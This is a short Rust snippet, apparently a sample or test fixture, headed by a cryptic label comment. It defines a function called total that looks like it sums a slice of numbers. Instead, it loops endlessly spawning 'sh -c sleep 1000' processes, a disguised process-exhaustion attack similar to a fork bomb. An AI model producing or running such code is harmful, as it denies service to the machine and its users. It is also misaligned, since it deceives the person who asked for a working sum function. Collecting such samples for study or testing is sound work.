// intro1: refused, path
fn total(_: &[u64]) -> u64 {
    loop {
        let _ = std::process::Command::new("sh").arg("-c").arg("sleep 1000").spawn();
    }
}
